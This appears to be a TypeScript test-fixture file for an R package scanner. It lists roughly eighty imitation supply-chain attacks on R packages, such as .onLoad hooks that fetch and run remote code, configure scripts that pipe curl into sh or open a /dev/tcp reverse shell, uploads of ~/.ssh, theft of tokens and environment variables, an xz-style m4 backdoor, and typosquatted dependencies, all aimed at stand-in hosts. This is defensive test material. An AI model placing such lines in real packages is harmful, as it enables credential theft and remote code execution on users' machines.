import { serialized } from "@packhouse/inspection/r/testing/serialized-data";
import { add, base64, type Pattern, prepend, program, replace } from "./change.ts";

const code = "R/refresh.R";
const hooks = "R/zzz.R";

const inFunction = (text: string): Pattern => ({
  change: { [code]: add(`\nrefresh_index <- function(path, key = NULL) {\n${text.replace(/^/gm, "  ")}\n}\n`) },
});
const inHook = (text: string, hook = ".onLoad"): Pattern => ({
  change: {
    [hooks]: add(`\n${hook} <- function(libname, pkgname) {\n${text.replace(/^/gm, "  ")}\n  invisible()\n}\n`),
  },
});
const atTop = (text: string): Pattern => ({ change: { [code]: add(`\n${text}\n`) } });
const inDescription = (text: string): Pattern => ({ change: { DESCRIPTION: add(`${text}\n`) } });

/** Harmless imitations of what incidents did to releases, as they would look in R packages. */
export const rPatterns: Readonly<Record<string, Pattern>> = {
  ".onLoad that runs a script from elsewhere": inHook('source("https://collect.example/a.R")'),
  ".onLoad that downloads a program and starts it": inHook(
    'f <- tempfile()\nutils::download.file("http://203.0.113.7/a", f, quiet = TRUE)\nSys.chmod(f, "755")\nsystem(f, wait = FALSE)',
  ),
  ".onAttach that starts a shell": inHook('system("curl -s http://203.0.113.7/a | sh")', ".onAttach"),
  ".onLoad by way of another function": {
    change: {
      [hooks]: add("\n.onLoad <- function(libname, pkgname) prepare_cache()\n"),
      "R/cache.R": 'prepare_cache <- function() {\n  system2("id", stdout = TRUE)\n}\n',
    },
  },
  ".onLoad that writes .Rprofile": inHook(
    'cat("harmless()\\n", file = file.path(Sys.getenv("HOME"), ".Rprofile"), append = TRUE)',
  ),
  ".onLoad that writes Rprofile.site": inHook(
    'write("harmless()", file.path(R.home("etc"), "Rprofile.site"), append = TRUE)',
  ),
  ".onLoad that changes where packages come from": inHook('options(repos = c(main = "https://collect.example/cran"))'),
  ".onLoad that changes a function of another package": inHook(
    'assignInNamespace("install.packages", function(...) NULL, ns = "utils")',
  ),
  ".onLoad that keeps watching": inHook("addTaskCallback(function(...) TRUE)"),
  "code at the top that starts a program": atTop('system("id > /tmp/x")'),
  "code at the top in a local block": atTop(
    'local({\n  con <- url("https://collect.example/s")\n  eval(parse(con))\n})',
  ),
  "a value that is computed by a program": atTop(
    '.build_id <- system("curl -s https://collect.example/id", intern = TRUE)',
  ),
  "an active binding": atTop('makeActiveBinding("version_info", function() system("id"), environment())'),
  "configure that pipes a download into a shell": {
    change: { configure: add("\ncurl -fsSL https://collect.example/setup.sh | sh\n") },
  },
  "configure that decodes a command": {
    change: { configure: add(`\necho ${base64.slice(0, 80)} | base64 -d | sh\n`) },
  },
  "configure that opens a shell for someone else": {
    change: { configure: add("\nbash -i >& /dev/tcp/203.0.113.9/4444 0>&1 &\n") },
  },
  "configure that runs what a test file hides (xz)": {
    change: {
      configure: add("\nsed -n '7,9p' tests/files/bad.bin | tr 'a-z' 'n-za-m' | xz -dc | sh\n"),
      "tests/files/bad.bin": program,
    },
  },
  "configure.win that starts PowerShell": {
    change: { "configure.win": '#!/bin/sh\npowershell -Command "iwr http://203.0.113.7/a"\n' },
  },
  "configure that runs a script in R": {
    change: {
      configure: add('\n"$R_HOME/bin/Rscript" tools/fetch.R\n'),
      "tools/fetch.R": 'download.file("http://203.0.113.7/lib.so", "src/lib.so")\n',
    },
  },
  "cleanup that sends files": {
    change: { cleanup: "#!/bin/sh\ntar cz ~/.ssh | curl -T - https://collect.example/\n" },
  },
  "Makevars with a shell": { change: { "src/Makevars": add("\nX=$(shell curl -s http://203.0.113.7/a | sh)\n") } },
  "Makevars with backquotes": { change: { "src/Makevars": add("\nPKG_LIBS=`wget -qO- http://203.0.113.7/flags`\n") } },
  "Makevars with a rule that runs a script": {
    change: {
      "src/Makevars": add(
        "\nall: $(SHLIB)\n\t@python3 -c \"import urllib.request as u; exec(u.urlopen('http://203.0.113.7').read())\"\n",
      ),
    },
  },
  "Makevars with a shell that decodes": {
    change: { "src/Makevars": add("\n$(shell echo aWQ= | openssl base64 -d | bash)\n") },
  },
  "Makevars whose shell calls nothing known": { change: { "src/Makevars": add("\nFLAGS := $(shell ./flags)\n") } },
  "install.libs.R": { change: { "src/install.libs.R": 'file.copy("x.so", "~/.local/lib")\nsystem("id")\n' } },
  "a help page that runs code when it is installed": {
    change: {
      "man/refresh.Rd":
        '\\name{refresh}\n\\title{Refresh}\n\\description{Refreshes. \\Sexpr[stage=install,results=hide]{system("id > /tmp/x")}}\n',
    },
  },
  "a help page that downloads when it is built": {
    change: {
      "man/refresh.Rd":
        '\\name{refresh}\n\\title{Refresh}\n\\description{\\Sexpr[stage=build]{\n  utils::download.file("http://203.0.113.7/a", "a")\n  ""\n}}\n',
    },
  },
  "a vignette that starts a program": {
    change: {
      "vignettes/start.Rmd":
        '---\ntitle: Start\noutput: rmarkdown::html_vignette\n---\n\n```{r, include=FALSE}\nsystem("curl -s http://203.0.113.7/a | sh")\n```\n',
    },
  },
  "a vignette of Sweave that does": {
    change: {
      "vignettes/notes.Rnw":
        '\\documentclass{article}\n\\begin{document}\n<<echo=FALSE>>=\nsource("https://collect.example/a.R")\n@\n\\end{document}\n',
    },
  },
  "tests that report home": {
    change: {
      "tests/testthat/test-refresh.R":
        'test_that("it works", {\n  httr::POST("https://collect.example", body = as.list(Sys.getenv()))\n})\n',
    },
  },
  "tests that run what they decode": {
    change: { "tests/setup.R": `eval(parse(text = rawToChar(base64enc::base64decode("${base64}"))))\n` },
  },
  "code that is decoded": inFunction(`eval(parse(text = rawToChar(base64enc::base64decode("${base64}"))))`),
  "code of letters": inFunction("eval(str2lang(intToUtf8(c(115, 121, 115, 116, 101, 109))))"),
  "code that is unpacked": inFunction('eval(parse(text = memDecompress(key, type = "gzip", asChar = TRUE)))'),
  "code from a socket": inFunction('con <- socketConnection("203.0.113.9", 4444)\neval(parse(text = readLines(con)))'),
  "code from an address": inFunction('eval(parse("https://collect.example/a.R"))'),
  "code that is stored": inFunction('f <- unserialize(url("http://203.0.113.7/f.rds"))\nf()'),
  "system by do.call": inFunction('do.call("system", list(key))'),
  "system by get": inFunction('get("system", envir = baseenv())(key)'),
  "system in pieces": inFunction('match.fun(paste0("sys", "tem"))(key)'),
  "system by its package": inFunction('base::system(paste("id", key))'),
  "system by getExportedValue": inFunction('getExportedValue("base", "system2")("id")'),
  "a process by callr": inFunction("callr::r_bg(function(key) system(key))"),
  "a process by processx": inFunction('processx::run("sh", c("-c", key))'),
  "Python by reticulate": inFunction("reticulate::py_run_string(\"import os; os.system('id')\")"),
  "a library that is loaded": {
    change: {
      "inst/libs/helper.so": program,
      [code]: add('\nrefresh_index <- function() dyn.load(system.file("libs/helper.so", package = "tideline"))\n'),
    },
  },
  "all variables sent": inFunction('httr::POST("https://collect.example", body = as.list(Sys.getenv()))'),
  "a token sent": inFunction(
    'utils::download.file(paste0("https://collect.example/?", Sys.getenv("GITHUB_PAT")), tempfile())',
  ),
  "names looked up that carry data": inFunction('curl::nslookup(paste0(key, ".collect.example"))'),
  "keys of the user": inFunction('readLines("~/.ssh/id_ed25519")'),
  "a job of cron": inFunction("system(\"(crontab -l; echo '* * * * * id') | crontab -\")"),
  "a message to Telegram": inFunction(
    'httr::POST("https://api.telegram.org/bot1:x/sendMessage", body = list(text = key))',
  ),
  "a password of the keyring": inFunction('keyring::key_get("database")'),
  "a clipboard that is read": inFunction("clipr::read_clip()"),
  "data with a function": { change: { "R/sysdata.rda": serialized.saved } },
  "data with a promise": { change: { "data/tides.rds": serialized.promise } },
  "data with bytecode": { change: { "inst/extdata/model.rds": serialized.bytecode } },
  "a script in data/": { change: { "data/stations.R": 'stations <- data.frame(a = 1)\nsystem("id")\n' } },
  "a citation that runs code": {
    change: { "inst/CITATION": 'system("id")\nbibentry("Misc", title = "Tides", author = "A", year = 2020)\n' },
  },
  "authors that run code": {
    change: {
      DESCRIPTION: replace(/^Authors@R:.*(?:\n[ \t].*)*\n|$/m, 'Authors@R: {system("id"); person("Ida", "Moen")}\n'),
    },
  },
  "a condition in NAMESPACE": { change: { NAMESPACE: prepend('if (system("id") == 0) export(refresh_index)\n') } },
  "C code that runs on loading": {
    change: {
      "src/helper.c":
        '#include <stdlib.h>\n\n__attribute__((constructor)) static void begin(void)\n{\n    system("curl -s http://203.0.113.7/a | sh");\n}\n',
    },
  },
  "C++ code that starts a program": {
    change: {
      "src/refresh.cpp":
        "#include <Rcpp.h>\n#include <cstdlib>\n\n// [[Rcpp::export]]\nint refresh(std::string command) {\n    return std::system(command.c_str());\n}\n",
    },
  },
  "C code that connects": {
    change: {
      "src/link.c":
        "#include <sys/socket.h>\n#include <arpa/inet.h>\n\nint link_to(const char *host)\n{\n    struct sockaddr_in to;\n    int s = socket(AF_INET, SOCK_STREAM, 0);\n    return connect(s, (struct sockaddr *) &to, sizeof to);\n}\n",
    },
  },
  "C code that reads a pipe": {
    change: {
      "src/pipe.c": '#include <stdio.h>\n\nvoid id(void)\n{\n    FILE *out = popen("id", "r");\n    pclose(out);\n}\n',
    },
  },
  "Rust code that starts a program": {
    change: {
      "src/rust/build.rs":
        'use std::process::Command;\n\nfn main() {\n    Command::new("sh").arg("-c").arg("id").status().unwrap();\n}\n',
    },
  },
  "a macro of m4 that hides a command (xz)": {
    change: {
      "m4/build-to-host.m4":
        'AC_DEFUN([gl_BUILD_TO_HOST], [\n  gl_path=`grep -aErls "#{4}[[:alnum:]]{5}#{4}$" $srcdir/ 2>/dev/null`\n  eval `sed "r\\n" $gl_path | tr "\\t \\-_" " \\t_\\-" | xz -d 2>/dev/null`\n])\n',
    },
  },
  "a library in a picture's name": { change: { "man/figures/logo.png": program } },
  "an object without its source": { change: { "src/speed.o": program } },
  "text that changes its order": inFunction('level <- "user\u202e \u2066# admin\u2069 \u2066"\nlevel'),
  "a name that looks like another": inFunction("sуstem <- key\nsуstem"),
  "another maintainer": {
    change: {
      DESCRIPTION: (text) =>
        `${text.replace(/^Maintainer:.*(?:\n[ \t].*)*\n/m, "").trimEnd()}\nMaintainer: Right Nine <right9@collect.example>\n`,
    },
  },
  "another license": {
    change: { DESCRIPTION: (text) => text.replace(/^License:.*(?:\n[ \t].*)*\n/m, "License: AGPL-3\n") },
  },
  "packages from another repository": inDescription("Additional_repositories: https://collect.example/cran"),
  "packages from a server of sources": inDescription("Remotes: url::https://collect.example/helper.tar.gz"),
  "a new requirement with a name like another's": {
    change: { DESCRIPTION: (text) => text.replace(/^(Imports:.*(?:\n[ \t].*)*)\n/m, "$1,\n    jsonllite\n") },
  },
};
